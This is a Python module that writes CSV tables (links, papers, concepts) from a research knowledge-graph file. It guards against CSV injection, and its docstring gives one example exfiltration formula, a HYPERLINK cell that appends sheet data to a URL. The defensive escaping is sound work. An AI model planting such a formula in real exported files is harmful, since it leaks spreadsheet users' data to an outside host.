"""CSV tables of a graph file for spreadsheets, pandas and datasette: paper–concept links, papers, and concepts with counts.

One table a file, as `csvs-to-sqlite`, datasette and `pandas.read_csv` expect: `kg export -f csv` writes
the links (one row per paper and concept it mentions, with the score and the evidence spans),
`--table papers` the papers (one row each, with authors, venue, DOI and subjects), `--table concepts` the concepts.
All come from one streamed parse of the graph file; no SPARQL store
is built. The concepts, their labels, hierarchy and subject links are read by kg.graph.facts (the one reader,
so a concept has the label here that every other command gives it); this module adds, on the same pass, the
paper columns and the evidence spans, which no other reader keeps. Columns are in `LINK_COLUMNS`, `PAPER_COLUMNS` and `CONCEPT_COLUMNS` (docs/serve.md describes them).

Titles, venues and labels come from whoever wrote the paper list or the scheme, and a spreadsheet evaluates
a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
`=HYPERLINK("http://…?"&A1,"click")` sends the sheet's data away when clicked. Such a cell is written with a
leading `'` (OWASP's advice on CSV injection), which a spreadsheet shows as text; a cell that is a number
(a negative score) stays the number it is.
"""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, AbstractSet, Any, Iterator

from kg.core.errors import UsageError
from kg.graph import files
from kg.graph.facts import Facts, of_triples
from kg.graph.vocabulary import BIBO, DCTERMS, FABIO, FOAF, KG, OA, RDF, RDFS, SKOS

TABLES = ("links", "papers", "concepts")
LINK_COLUMNS = ("paper_id", "paper", "title", "year", "venue", "concept", "label", "score", "subject", "mentions", "evidence")
PAPER_COLUMNS = ("paper_id", "paper", "title", "year", "venue", "authors", "doi", "subjects", "abstract")
CONCEPT_COLUMNS = ("concept", "label", "papers", "mentioned_in", "mentions", "broader")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may evaluate at the start of a cell (OWASP)
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value: object) -> object:
    """A value as a spreadsheet should read it: text it would evaluate gets a leading `'`; numbers are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


@dataclass
class _Paper:
    identifier: str = ""
    title: str = ""
    year: str = ""
    venue: str = ""
    abstract: str = ""
    doi: str = ""
    creators: list[str] = field(default_factory=list)


@dataclass
class _Annotation:
    body: str = ""
    score: str = ""
    target: str = ""


@dataclass
class _Target:
    source: str = ""
    on_title: bool = False
    selectors: list[str] = field(default_factory=list)


@dataclass
class _Read:
    """What the tables need from a graph beyond its Facts, gathered on the same pass over its triples."""

    papers: dict[str, _Paper] = field(default_factory=dict)
    names: dict[str, str] = field(default_factory=dict)  # rdfs:label of papers and venues
    typed: set[str] = field(default_factory=set)  # the fabio:ResearchPaper resources (a scheme has a dcterms:title too)
    annotations: dict[str, _Annotation] = field(default_factory=lambda: defaultdict(_Annotation))
    targets: dict[str, _Target] = field(default_factory=lambda: defaultdict(_Target))
    starts: dict[str, str] = field(default_factory=dict)
    ends: dict[str, str] = field(default_factory=dict)
    exact: dict[str, str] = field(default_factory=dict)


def _read(graph: str | Path) -> tuple[_Read, Facts]:
    """The graph's Facts and, from the same pass over its triples, the papers' columns and the evidence spans."""
    import pyoxigraph as ox

    r = _Read()
    paper_class = FABIO + "ResearchPaper"
    rdf_type, title_property = RDF + "type", DCTERMS + "title"

    def paper(s: str) -> _Paper:
        found = r.papers.get(s)
        if found is None:
            found = r.papers[s] = _Paper()
        return found

    def set_type(s: str, o: str) -> None:
        if o == paper_class:
            paper(s)
            r.typed.add(s)

    handlers: dict[str, Any] = {
        rdf_type: set_type,
        DCTERMS + "identifier": lambda s, o: setattr(paper(s), "identifier", o),
        title_property: lambda s, o: setattr(paper(s), "title", o),
        FABIO + "hasPublicationYear": lambda s, o: setattr(paper(s), "year", o),
        DCTERMS + "isPartOf": lambda s, o: setattr(paper(s), "venue", o),
        DCTERMS + "abstract": lambda s, o: setattr(paper(s), "abstract", o),
        DCTERMS + "creator": lambda s, o: paper(s).creators.append(o),
        BIBO + "doi": lambda s, o: setattr(paper(s), "doi", o),
        FOAF + "name": r.names.__setitem__,
        RDFS + "label": r.names.__setitem__,
        OA + "hasBody": lambda s, o: setattr(r.annotations[s], "body", o),
        KG + "score": lambda s, o: setattr(r.annotations[s], "score", o),
        OA + "hasTarget": lambda s, o: setattr(r.annotations[s], "target", o),
        OA + "hasSource": lambda s, o: setattr(r.targets[s], "source", o),
        OA + "hasSelector": lambda s, o: r.targets[s].selectors.append(o),
        KG + "onProperty": lambda s, o: setattr(r.targets[s], "on_title", o == title_property),
        OA + "start": r.starts.__setitem__,
        OA + "end": r.ends.__setitem__,
        OA + "exact": r.exact.__setitem__,
    }
    blank = ox.BlankNode

    def tapped() -> Iterator:
        for t in files.parse(graph):
            handle = handlers.get(t.predicate.value)
            if handle is not None:
                s, o = t.subject, t.object
                handle("_:" + s.value if type(s) is blank else s.value, "_:" + o.value if type(o) is blank else o.value)
            yield t

    return r, of_triples(tapped())


def _links(r: _Read, concepts: AbstractSet[str]) -> dict[tuple[str, str], tuple[str, list[tuple[str, int, int, str]]]]:
    """(paper, concept) -> (score, evidence spans as (field, start, end, exact)), for every annotated concept."""
    links: dict[tuple[str, str], tuple[str, list[tuple[str, int, int, str]]]] = {}
    for a in r.annotations.values():
        target = r.targets.get(a.target)
        if target is None or a.body not in concepts or target.source not in r.papers:
            continue
        spans = links.setdefault((target.source, a.body), (a.score, []))[1]
        where = "title" if target.on_title else "abstract"
        start = next((r.starts[s] for s in target.selectors if s in r.starts), None)
        end = next((r.ends[s] for s in target.selectors if s in r.ends), None)
        exact = next((r.exact[s] for s in target.selectors if s in r.exact), "")
        if start is not None and end is not None:
            spans.append((where, int(start), int(end), exact))
    return links


def write_table(graph: str | Path, stream: IO[bytes], table: str = "links") -> int:
    """Write one CSV table of the graph file to a binary stream (UTF-8, a header row); return the number of data rows."""
    if table not in TABLES:
        raise UsageError(f"unknown table {table!r} (available: {', '.join(TABLES)})")
    r, facts = _read(graph)
    concepts = {c for c in facts.concepts if SKOS + "Concept" in facts.types.get(c, ())}
    labels, subjects_of = facts.concepts, set(facts.subjects)
    links = _links(r, concepts)
    text = io.TextIOWrapper(stream, encoding="utf-8", newline="")
    writer = csv.writer(text)
    rows = 0

    def write(values: tuple) -> None:
        writer.writerow([cell(v) for v in values])

    if table == "links":
        write(LINK_COLUMNS)
        order = {iri: i for i, iri in enumerate(r.papers)}
        for (paper_iri, concept), (score, spans) in sorted(links.items(), key=lambda kv: (order[kv[0][0]], -float(kv[1][0] or 0), kv[0][1])):
            p = r.papers[paper_iri]
            spans.sort()
            evidence = " | ".join(f"{where}[{a}:{b}] {exact}" for where, a, b, exact in spans)
            write((p.identifier, paper_iri, p.title or r.names.get(paper_iri, ""), p.year, r.names.get(p.venue, p.venue), concept,
                          labels.get(concept, ""), score, int((paper_iri, concept) in subjects_of), len(spans), evidence))
            rows += 1
    elif table == "papers":
        write(PAPER_COLUMNS)
        subjects: dict[str, list[str]] = defaultdict(list)
        for paper_iri, concept in facts.subjects:
            subjects[paper_iri].append(facts.label(concept))
        for paper_iri, p in r.papers.items():
            if paper_iri not in r.typed:
                continue
            write((p.identifier, paper_iri, p.title or r.names.get(paper_iri, ""), p.year, r.names.get(p.venue, p.venue),
                   "; ".join(r.names.get(a, a) for a in p.creators), p.doi, "; ".join(sorted(subjects[paper_iri])), p.abstract))
            rows += 1
    else:
        write(CONCEPT_COLUMNS)
        papers: dict[str, int] = defaultdict(int)
        for paper_iri, concept in facts.subjects:
            if paper_iri in r.papers:
                papers[concept] += 1
        mentioned: dict[str, int] = defaultdict(int)
        mentions: dict[str, int] = defaultdict(int)
        for (_, concept), (_, spans) in links.items():
            mentioned[concept] += 1
            mentions[concept] += len(spans)
        for concept in sorted(concepts, key=lambda c: (-papers[c], -mentioned[c], labels[c], c)):
            write((concept, labels[concept], papers[concept], mentioned[concept], mentions[concept],
                          " ".join(facts.broader.get(concept, ()))))
            rows += 1
    text.flush()
    text.detach()  # the caller owns the stream
    return rows
